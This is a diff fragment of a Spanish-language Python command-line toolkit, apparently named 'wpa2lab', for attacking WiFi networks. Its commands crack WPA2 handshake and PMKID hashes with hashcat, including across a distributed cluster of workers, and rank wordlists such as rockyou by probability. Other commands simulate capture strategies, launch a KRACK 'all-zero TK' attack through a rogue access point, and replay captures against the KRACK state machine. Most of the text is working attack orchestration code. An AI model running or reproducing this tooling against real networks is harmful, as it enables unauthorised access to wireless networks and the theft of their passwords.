+             codec: str = typer.Option(capstore.DEFAULT, "--codec", help=" | ".join(capstore.available())),
+             level: Optional[int] = typer.Option(None, "--level", help="Nivel del códec"),
+             bench: bool = typer.Option(False, "--bench", help="Sólo mide: ratio y lectura por códec")):
+    """Comprime capturas terminadas (las lecturas posteriores descomprimen en streaming)."""
+    pcaps = pcaps or [f for f in capstore.captures(CAP_DIR) if not capstore.codec_of(f)]
+    if not pcaps:
+        console.print("[yellow]No hay capturas en claro que comprimir[/]")
+        return
+    if bench:
+        _bench_codecs(pcaps, level)
+        return
+    if codec not in capstore.available():
+        console.print(f"[red]Códec no disponible: {codec}[/]")
+        raise typer.Exit(1)
+    raw = packed = 0
+    for p in pcaps:
+        if capstore.codec_of(p):
+            continue
+        size = p.stat().st_size
+        idx = frame_index.load(p) if frame_index.is_fresh(p) else None
+        dst = capstore.compress(p, codec, level)
+        if idx:
+            frame_index.move(idx, dst)
+        for m in segments.manifests(CAP_DIR):
+            m.rename(p.name, dst.name, dst.stat().st_size)
+        if STATE.get("pcap") == str(p):
+            STATE.update(pcap=str(dst))
+        raw, packed = raw + size, packed + dst.stat().st_size
+        console.print(f"[dim]{p.name} → {dst.name}  {size // 1024} → {dst.stat().st_size // 1024} KiB[/]")
+    log.info("COMPRESS %d files %s: %d → %d bytes", len(pcaps), codec, raw, packed)
+    console.print(f"[green bold]✓[/] {raw // 1024} → {packed // 1024} KiB ({packed / raw if raw else 1:.0%})")
+
+def _bench_codecs(pcaps: list[Path], level: Optional[int]):
+    """Por códec: tamaño en disco, coste de comprimir y ritmo de la lectura de extracción."""
+    def scan(paths) -> tuple[float, int]:
+        t0, n = time.perf_counter(), 0
+        for p in paths:
+            with pcapng_io.open_capture(p) as fh:
+                n += sum(1 for _ in pcapng_io.iter_packets(fh))
+        return time.perf_counter() - t0, n
+    raw = sum(p.stat().st_size for p in pcaps)
+    tbl = Table("Códec", "KiB en disco", "Ratio", "Comprimir MB/s", "Lectura MB/s", "Frames/s",
+                box=box.SIMPLE, title=f"{len(pcaps)} captura(s), {raw // 1024} KiB en claro")
+    secs, n = scan(pcaps)
+    tbl.add_row("ninguno", str(raw // 1024), "100%", "-", f"{raw / secs / 1e6:.0f}", f"{n / secs:,.0f}")
+    with tempfile.TemporaryDirectory(prefix="wpa2lab-") as tmpdir:
+        for codec in capstore.available():
+            t0, outs = time.perf_counter(), []
+            for p in pcaps:
+                cp = Path(tmpdir) / p.name
+                shutil.copyfile(p, cp)
+                outs.append(capstore.compress(cp, codec, level))
+            csecs = time.perf_counter() - t0
+            size = sum(o.stat().st_size for o in outs)
+            rsecs, n = scan(outs)
+            tbl.add_row(codec, str(size // 1024), f"{size / raw:.0%}", f"{raw / csecs / 1e6:.0f}",
+                        f"{raw / rsecs / 1e6:.0f}", f"{n / rsecs:,.0f}")
+            log.info("CODEC %s size=%d ratio=%.3f comp=%.1fMB/s read=%.1fMB/s",
+                     codec, size, size / raw, raw / csecs / 1e6, raw / rsecs / 1e6)
+    console.print(tbl)
+    if "zst" not in capstore.available():
+        console.print("[dim]zstd: `pip install zstandard` para probarlo también[/]")
+@cli.command()  # python … triage hashes/hash-….22000
+def triage(hashfile: Path = typer.Argument(..., exists=True, help="Fichero .22000"),
+           dry_run: bool = typer.Option(False, "--dry-run", help="Sólo informa, no reescribe")):
+    """Deja el mejor registro por (AP, cliente, ESSID) antes de crackear."""
+    if dry_run:
+        kept, _ = hash22000.triage(hash22000.read(hashfile))
+        tbl = Table("ESSID", "AP", "Cliente", "Tipo", "Score", box=box.SIMPLE)
+        for h in kept:
+            tbl.add_row(h.essid_text, h.ap, h.client, hash22000.label(h), str(hash22000.score(h)))
+        console.print(tbl)
+    _triage_file(hashfile, write=not dry_run)
+@cli.command()  # python … crack [--mask ?d?d?d?d?d?d?d?d] [--essid-gen] [--workers N] [--devices "1,2;3"] [--hashes 'hashes/*.22000']
+def crack(mask: Optional[str] = typer.Option(None, "--mask", help="Máscara hashcat (+ charsets: '?1?1?d… ?l?u')"),
+          essid_gen: bool = typer.Option(False, "--essid-gen", help="Candidatos derivados del ESSID"),
+          workers: Optional[int] = typer.Option(None, "--workers", "-w", help="Procesos hashcat en paralelo (por defecto, el perfil)"),
+          rule_spec: Optional[str] = typer.Option(None, "--rules", "-r", help="'lab' o fichero .rule de hashcat"),
+          devices: Optional[str] = typer.Option(None, "--devices", "-d", help="Grupos hashcat -d por worker: '1,2;3'"),
+          order: bool = typer.Option(False, "--order", help="Word-list ordenada por probabilidad (cacheada)"),
+          hashes: Optional[str] = typer.Option(None, "--hashes", help="Glob de .22000 a crackear juntos: 'hashes/*.22000'")):
+    files = sorted(glob.glob(hashes)) if hashes else None
+    if hashes and not files:
+        console.print(f"[red]Ningún fichero coincide con {hashes}[/]")
+        raise typer.Exit(1)
+    if not files and STATE.get("hash") and Path(STATE["hash"]).exists():
+        files = [str(STATE["hash"])]          # encadenado tras extract: sin selector
+    act_crack(mask, essid_gen, workers, rule_spec, devices.split(";") if devices else None, order, files)
+@cli.command()  # python … order rockyou.txt [--hash hashes/hash-….22000] [--rebuild]
+def order(wordlist: Path = typer.Argument(..., exists=True, help="Word-list (también .gz/.bz2/.xz)"),
+          hashfile: Optional[Path] = typer.Option(None, "--hash", exists=True, help="ESSID a priorizar (.22000)"),
+          mem: int = typer.Option(ordering.MEM, "--mem", help="Líneas en memoria por run del sort externo"),
+          rebuild: bool = typer.Option(False, "--rebuild", help="Reconstruir aunque esté en caché")):
+    """Construye (o reutiliza) la word-list ordenada y mide la mejora sobre el historial."""
+    out, model, hist = _ordered(wordlist, str(hashfile) if hashfile else None, rebuild, mem)
+    rep = ordering.evaluate(wordlist, out, hist)
+    if not rep["found"]:
+        console.print(f"[yellow]Ninguna de las {rep['history']} contraseñas del historial está en "
+                      f"{wordlist.name}: no hay con qué medir[/]")
+        return
+    tbl = Table("Posición", "Original", "Ordenada", box=box.SIMPLE,
+                title=f"{rep['found']}/{rep['history']} contraseñas del historial en {wordlist.name}")
+    tbl.add_row("media", f"{rep['mean_raw']:,.0f}", f"{rep['mean_ordered']:,.0f}")
+    tbl.add_row("mediana", f"{rep['median_raw']:,}", f"{rep['median_ordered']:,}")
+    console.print(tbl)
+    console.print(f"[bold]×{rep['speedup']:.1f}[/] menos candidatos hasta el crack (media) · "
+                  f"{rep['better']}/{rep['found']} adelantan  "
+                  f"[dim](modelo ajustado con ese mismo historial: {model.trained} contraseñas)[/]")
+    log.info("ORDER-EVAL %s found=%d mean %.0f → %.0f speedup=%.2f", wordlist, rep["found"],
+             rep["mean_raw"], rep["mean_ordered"], rep["speedup"])
+def _source(wordlist: Optional[Path], mask: Optional[str]) -> dict:
+    if bool(wordlist) == bool(mask):
+        console.print("[red]Indica --wordlist o --mask (uno de los dos).[/]")
+        raise typer.Exit(1)
+    return cluster.wordlist_source(wordlist) if wordlist else cluster.mask_source(mask)
+def _hostport(spec: str) -> tuple[str, int]:
+    host, _, port = spec.rpartition(":")
+    return host or cluster.BIND, int(port or cluster.PORT)
+@cli.command()  # python … serve hashes/hash-….22000 --wordlist rockyou.txt --bind 0.0.0.0:7722 --token …
+def serve(hashfile: Path = typer.Argument(..., exists=True, help="Fichero .22000"),
+          wordlist: Optional[Path] = typer.Option(None, "--wordlist", exists=True),
+          mask: Optional[str] = typer.Option(None, "--mask"),
+          bind: str = typer.Option(f"{cluster.BIND}:{cluster.PORT}", "--bind",
+                                   help="Fuera de loopback exige --token"),
+          unit: Optional[int] = typer.Option(None, "--unit", help="Bytes (word-list) o candidatos (máscara) por unidad"),
+          lease: float = typer.Option(cluster.LEASE, "--lease", help="s sin latido antes de reasignar"),
+          token: Optional[str] = typer.Option(None, "--token", envvar="WPA2LAB_TOKEN")):
+    """Coordinador: reparte unidades de trabajo entre los workers de la red."""
+    if not token and not cluster.loopback(_hostport(bind)[0]):
+        console.print(f"[red]--bind {bind} sin --token: cualquiera en la red podría leer los hashes.[/]")
+        raise typer.Exit(1)
+    source = _source(wordlist, mask)
+    work = cluster.units(source, unit)
+    table = Table("SSID", "Contraseña", box=box.SIMPLE, header_style="bold")
+    progress = Progress(SpinnerColumn(), BarColumn(bar_width=None), TaskProgressColumn(),
+                        TimeRemainingColumn(), console=console)
+    task = progress.add_task("Unidades", total=len(work))
+    tel = telemetry.Telemetry(TELEMETRY_LOG, hash=hashfile.name)
+    coord = cluster.Coordinator(
+        hashfile, source, work, lease=lease, token=token, tel=tel,
+        on_found=lambda e, pw: table.add_row(e, f"[bold red]{pw}[/bold red]"),
+        on_unit=lambda u: progress.update(task, advance=1))
+    srv = cluster.Server(coord, _hostport(bind))
+    console.print(f"[cyan]Coordinador en {bind} · {len(work)} unidades · "
+                  f"{len(coord.remaining)} hashes[/]")
+    with Live(Group(progress, _StatusLine(tel), table), console=console, refresh_per_second=2):
+        st = srv.serve()
+    tel.close()
+    _remember(hashfile)
+    console.print(f"[green]{st['done']}/{st['units']} unidades · {st['found']} halladas · "
+                  f"{st['reissued']} reasignadas · {st['rejected']} rechazadas · {st['elapsed']:.0f}s[/]")
+@cli.command()  # python … worker 192.168.1.10:7722 [--devices 1,2]
+def worker(coordinator: str = typer.Argument(..., help="host:puerto del coordinador"),
+           wordlist: Optional[Path] = typer.Option(None, "--wordlist", help="Ruta local si difiere"),
+           devices: Optional[str] = typer.Option(None, "--devices", "-d", help="hashcat -d"),
+           token: Optional[str] = typer.Option(None, "--token", envvar="WPA2LAB_TOKEN")):
+    """Worker: alquila unidades al coordinador y las pasa por el hashcat local."""
+    ensure(crack_engine.HASHCAT, "hashcat")
+    host, port = _hostport(coordinator)
+    st = cluster.work(host, port, token=token, devices=devices,
+                      wordlist=str(wordlist) if wordlist else None)
+    console.print(f"[green]{st['units']} unidades · {st['found']} halladas[/]")
+@cli.command("cluster-bench")  # python … cluster-bench hash.22000 --mask ?d?d?d?d?d?d?d?d --workers 1,2,4
+def cluster_bench(hashfile: Path = typer.Argument(..., exists=True),
+                  wordlist: Optional[Path] = typer.Option(None, "--wordlist", exists=True),
+                  mask: Optional[str] = typer.Option(None, "--mask"),
+                  workers: str = typer.Option("1,2,4", "--workers"),
+                  unit: Optional[int] = typer.Option(None, "--unit")):
+    """Coordinador + N workers locales: escalado del throughput con el nº de workers."""
+    rows = cluster.bench(hashfile, _source(wordlist, mask), [int(n) for n in workers.split(",")], unit)
+    tbl = Table("Workers", "Tiempo", "Throughput", "Speed-up", "Reasignadas", box=box.SIMPLE)
+    per = "B/s" if wordlist else "cand/s"
+    for r in rows:
+        tbl.add_row(str(r["workers"]), f"{r['elapsed']:.1f}s", f"{r['rate']:,.0f} {per}",
+                    f"×{r['speedup']:.2f}", str(r["reissued"]))
+    console.print(tbl)
+@cli.command()  # python … state [--clear]
+def state(clear: bool = typer.Option(False, "--clear", help="Olvida monitor, objetivo, captura y hash")):
+    """Estado compartido entre comandos (state.json)."""
+    if clear:
+        STATE.update(mon=None, ap=None, target={}, pcap=None, manifest=None, hash=None, pw=None, survey={})
+    console.print(status_panel())
+@cli.command()  # python … watch [--poll 5] [--jobs 1] [--workers 2]
+def watch(poll: Optional[float] = typer.Option(None, "--poll", help="Sondeo cada N s (sin inotify)"),
+          jobs: int = typer.Option(1, "--jobs", help="Cracks simultáneos"),
+          workers: int = typer.Option(1, "--workers", "-w", help="hashcat por crack"),
+          wordlist: Optional[Path] = typer.Option(None, "--wordlist", exists=True),
+          quiet: float = typer.Option(10.0, "--quiet", help="s sin cambios antes de procesar una captura")):
+    act_watch(poll, jobs, workers, wordlist, quiet)
+@cli.command("bench-rules")  # python … bench-rules --rules best64.rule wordlist.txt
+def bench_rules(wordlist: Path = typer.Argument(..., exists=True),
+                rule_spec: str = typer.Option("lab", "--rules", "-r"),
+                words: int = typer.Option(100_000, "--words", help="Palabras base a usar"),
+                seconds: float = typer.Option(3.0, "--seconds")):
+    """Candidatos/s que produce el motor de reglas (sin hashcat detrás)."""
+    progs, skipped = rules.load(rule_spec)
+    with wordlists.open_words(wordlist) as fh:
+        base = [l.rstrip(b"\r\n") for l in islice(fh, words)]
+    r = rules.bench(progs, base, seconds)
+    console.print(f"{r['rules']} reglas ({skipped} ignoradas) × {r['words']:,} palabras → "
+                  f"[bold]{r['raw_rate']:,.0f}[/] cand/s brutos · {r['out_rate']:,.0f} tras filtrar/dedup")
+@cli.command()  # python … tune [--force]
+def tune(force: bool = typer.Option(False, "--force", help="Volver a medir aunque haya perfil")):
+    """Perfil de ajuste de esta máquina (hashcat -b -m 22000), cacheado por host y versión."""
+    p = _tuning(force)
+    tbl = Table("Parámetro", "Valor", box=box.SIMPLE, title=f"⚙ {p['host']} · {p['hashcat'] or 'sin hashcat'}")
+    for dev, hs in p["devices"].items():
+        tbl.add_row(f"Dispositivo #{dev}", telemetry.fmt_speed(hs))
+    tbl.add_row("Total 22000", telemetry.fmt_speed(p["speed"]))
+    tbl.add_row("Motor propio (PBKDF2)", f"{p['cpu_engine']:,.0f} PMK/s")
+    tbl.add_row("Workload (-w)", str(p["workload"]))
+    tbl.add_row("Workers", str(p["workers"]) + (f" ({';'.join(p['device_groups'])})" if p["device_groups"] else ""))
+    tbl.add_row("Bloque interactivo", f"{tuning.BlockSizer(p).next():,} líneas al empezar "
+                                      f"(~{tuning.BLOCK_S}s, 1 ESSID; se ajusta al ritmo)")
+    tbl.add_row("Lote stdin", f"{p['batch']:,} candidatos")
+    tbl.add_row("Medido", datetime.fromtimestamp(p["ts"]).strftime("%Y-%m-%d %H:%M"))
+    console.print(tbl)
+@cli.command("sim-bench")  # python … sim-bench [--seconds 5] [--pps 2000] [--words 1000000] [--workers 2]
+def sim_bench(seconds: float = typer.Option(5.0, "--seconds", help="Duración de la captura simulada"),
+              pps: float = typer.Option(2000.0, "--pps", help="Frames/s de hcxdumptool"),
+              words: int = typer.Option(1_000_000, "--words", help="Líneas de la word-list sintética"),
+              at: float = typer.Option(0.9, "--at", help="Posición relativa de la contraseña en la lista"),
+              workers: int = typer.Option(2, "--workers", "-w"),
+              rate: float = typer.Option(0.0, "--rate", help="c/s de cada hashcat (0 = sin límite)")):
+    """Captura → extracción → crack con los simuladores: mide sólo el coste del propio pipeline."""
+    simtools.activate()
+    pw = "labsecret"
+    with tempfile.TemporaryDirectory(prefix="wpa2lab-bench-") as tmp:
+        tmp = Path(tmp)
+        os.environ.update({"WPA2LAB_SIM_PPS": str(pps), "WPA2LAB_SIM_DURATION": str(seconds),
+                           "WPA2LAB_SIM_RATE": str(rate), "WPA2LAB_SIM_PASSWORDS": pw,
+                           "WPA2LAB_SIM_CRACK_AT": "", "WPA2LAB_SIM_POTFILE": str(tmp / "pot")})
+        rows = []
+
+        # 1) captura: hcxdumptool → segmento → resumen + índice + compresión
+        t0 = time.perf_counter()
+        cap = segments.RotatingCapture(lambda seg: ["hcxdumptool", "-i", "sim0", "-t", "5", "-w", str(seg)],
+                                       tmp, "dump-bench", compress=capstore.DEFAULT)
+        segs = cap.run(poll=0.1)
+        el = time.perf_counter() - t0
+        frames = sum(s["packets"] for s in cap.manifest.segments)
+        raw = sum(s.get("raw_size", s["size"]) for s in cap.manifest.segments)
+        rows.append(("Captura", el, seconds, f"{frames / el:,.0f} frames/s",
+                     f"{frames:,} frames · {raw // 1024:,} KiB → {len(segs)} segmento(s) .gz"))
+
+        # 2) extracción: hcxpcapngtool (+ descompresión) y triaje
+        t0 = time.perf_counter()
+        hashf = tmp / "bench.22000"
+        with tempfile.TemporaryDirectory(prefix="wpa2lab-", dir=tmp) as sub:
+            subprocess.run(["hcxpcapngtool", "-o", str(hashf), *_hcx_inputs([str(p) for p in segs], Path(sub))],
+                           stdout=subprocess.DEVNULL, check=True)
+        kept, _ = hash22000.triage(hash22000.read(hashf)) if hashf.exists() else ([], None)
+        if not kept:
+            console.print("[red]La captura simulada no dio hashes (¿`frames` sin EAPOL?)[/]")
+            raise typer.Exit(1)
+        hash22000.write(hashf, kept)
+        el = time.perf_counter() - t0
+        rows.append(("Extracción", el, 0.0, f"{frames / el:,.0f} frames/s", f"{len(kept)} hashes tras el triaje"))
+
+        # 3) crack: word-list sintética, la contraseña en `at`
+        wl = tmp / "words.txt"
+        rng = random.Random(0)
+        pos = min(int(words * at), words - 1)
+        with open(wl, "w") as fh:
+            for i in range(words):
+                fh.write(pw + "\n" if i == pos else f"{rng.getrandbits(40):012x}\n")
+        found: list[float] = []
+        t0 = time.perf_counter()
+        st = sharding.ShardedCrack(hashf, wl, workers).run(
+            on_found=lambda essid, p: found.append(time.perf_counter() - t0))
+        el = time.perf_counter() - t0
+        sim = pos / workers / rate if rate else 0.0
+        rows.append(("Crack", el, sim, f"{st['bytes'] * words / wl.stat().st_size / el:,.0f} c/s",
+                     f"{workers} worker(s) · contraseña en {pos:,} → "
+                     + (f"hallada a {found[0]:.2f} s" if found else "[red]no hallada[/]")))
+
+    tbl = Table("Etapa", "Tiempo", "Herramienta", "Propio", "Ritmo", "Detalle", box=box.SIMPLE,
+                title="Pipeline con simuladores")
+    for name, el, sim, r, det in rows:
+        tbl.add_row(name, f"{el:.2f} s", f"{sim:.2f} s", f"{max(el - sim, 0):.2f} s", r, det)
+    console.print(tbl)
+    console.print("[dim]Herramienta = tiempo que el simulador está configurado para tardar; "
+                  "Propio = el resto (arranques, parseo, índices, compresión, reparto).[/]")
+    for name, el, sim, r, _ in rows:
+        log.info("SIM-BENCH %s %.3fs tool=%.3fs %s", name, el, sim, r)
+@cli.command("dwell-sim")  # python … dwell-sim [--minutes 30] [--layout "1:4x2,6:2x5,11:8x1"]
+def dwell_sim(minutes: float = typer.Option(30.0, "--minutes"),
+              layout: Optional[str] = typer.Option(None, "--layout", help="canal:APsxclientes,… (por defecto, el último escaneo)"),
+              seeds: int = typer.Option(10, "--seeds", help="Repeticiones (se promedian)"),
+              hop_cost: float = typer.Option(0.01, "--hop-cost", help="s muertos por salto")):
+    """Escucha adaptativa vs salto fijo contra una banda simulada: capturas útiles por minuto."""
+    if layout:
+        lay = {int(c): tuple(int(x) for x in v.split("x")) for c, v in (p.split(":") for p in layout.split(","))}
+    else:
+        lay = {int(c): (a, round(cl / a) if a else 0) for c, (a, cl) in (STATE.get("survey") or {}).items()}
+    if not lay:
+        console.print("[red]Sin --layout ni escaneo previo (scan-cli).[/]")
+        raise typer.Exit(1)
+    density = {c: (a, a * k) for c, (a, k) in lay.items()}
+    policies = [("fijo 1-13 · 5 s", lambda: channel_plan.FixedHop(channel_plan.CHANNELS_24, 5.0)),
+                ("fijo 1,6,11 · 5 s", lambda: channel_plan.FixedHop([1, 6, 11], 5.0)),
+                ("adaptativo sin escaneo", lambda: channel_plan.DwellPlanner(channel_plan.CHANNELS_24)),
+                ("adaptativo + escaneo", lambda: channel_plan.DwellPlanner((), density))]
+    tbl = Table("Política", "Capturas/min", "Handshakes", "PMKID", "Saltos", box=box.SIMPLE,
+                title=f"{minutes:g} min · {sum(a * k for a, k in lay.values())} pares AP↔cliente")
+    for name, mk in policies:
+        rs = [channel_plan.simulate(lay, mk(), minutes * 60, hop_cost, seed) for seed in range(seeds)]
+        avg = lambda k: sum(r[k] for r in rs) / len(rs)
+        tbl.add_row(name, f"{avg('per_min'):.2f}", f"{avg('handshakes'):.1f}", f"{avg('pmkids'):.1f}",
+                    f"{avg('hops'):.0f}")
+    console.print(tbl)
+@cli.command("krack-attack")  # python … krack-attack MiSSID --eth eth0 [--target MAC] [--continuous-csa]
+def krack_attack_cli(ssid: str = typer.Argument(..., help="SSID objetivo"),
+                     real: Optional[str] = typer.Option(None, "--real", "-r", help="Interface modo monitor real"),
+                     rogue: Optional[str] = typer.Option(None, "--rogue", "-R", help="Interface del rogue AP"),
+                     ether: str = typer.Option(..., "--eth", help="Interface ethernet para el rogue AP"),
+                     target: Optional[str] = typer.Option(None, "--target", help="MAC cliente específico"),
+                     continuous: bool = typer.Option(False, "--continuous-csa")):
+    """Lanza un ataque KRACK "all-zero TK" sin repos externos."""
+    real_iface = real or mon_iface() or ask_iface("Interface monitor real", allow_mon=True)
+    rogue_iface = rogue or ask_iface("Interface del rogue AP")
+    console.print(Panel.fit(f"[magenta]KRACK Attack[/magenta]\nReal: {real_iface}  Rogue: {rogue_iface}\nSSID: {ssid}", title="KRACK"))
+    try:
+        attack = krack_attack.KRAckAttack(real_iface, rogue_iface, ether, ssid, target, continuous)
+    except RuntimeError as e:
+        console.print(f"[red]{e}[/]")
+        raise typer.Exit(1)
+    attack.run()
+@cli.command("krack-replay")  # python … krack-replay captures/demo.pcapng [--essid X | --ap MAC] [--csa]
+def krack_replay(pcap: Path = typer.Argument(..., exists=True, help="Captura .pcapng de la demo"),
+                 ap: Optional[str] = typer.Option(None, "--ap", help="BSSID del AP"),
+                 essid: Optional[str] = typer.Option(None, "--essid", help="ESSID del AP (si no hay --ap)"),
+                 target: Optional[str] = typer.Option(None, "--target", help="MAC cliente específico"),
+                 csa: bool = typer.Option(False, "--csa", help="Programa también los beacons CSA")):
+    """Reproduce una captura contra la máquina de estados KRACK, sin radios: frames/s y latencia."""
+    try:
+        r = krack_attack.replay(pcap, ap, essid, target, csa)
+    except ValueError as e:
+        console.print(f"[red]{e}[/]")
+        raise typer.Exit(1)
+    tbl = Table("Cliente", "Estado", box=box.SIMPLE, title=f"AP {r['ap']}")
+    for mac, st in r["clients"].items():
+        tbl.add_row(mac, st)
+    console.print(tbl)
+    console.print(f"{r['packets']:,} paquetes ({r['frames']:,} del AP) en {r['elapsed'] * 1e3:.1f} ms → "
+                  f"[bold]{r['pps']:,.0f}[/] pkt/s · latencia p50 {r['lat_p50_us']:.1f} µs · "
+                  f"p99 {r['lat_p99_us']:.1f} µs · máx {r['lat_max_us']:.1f} µs")
+    console.print(f"[dim]{r['attacks']} ataques · {r['reinstalled']} reinstalaciones · {r['failed']} fallidos · "
+                  f"{r['msg3_dup']} msg3 repetidos · {r['forwarded']} reenviados · {r['csa_beacons']} beacons CSA[/]")
 
 if __name__ == "__main__":
     if len(sys.argv) > 1: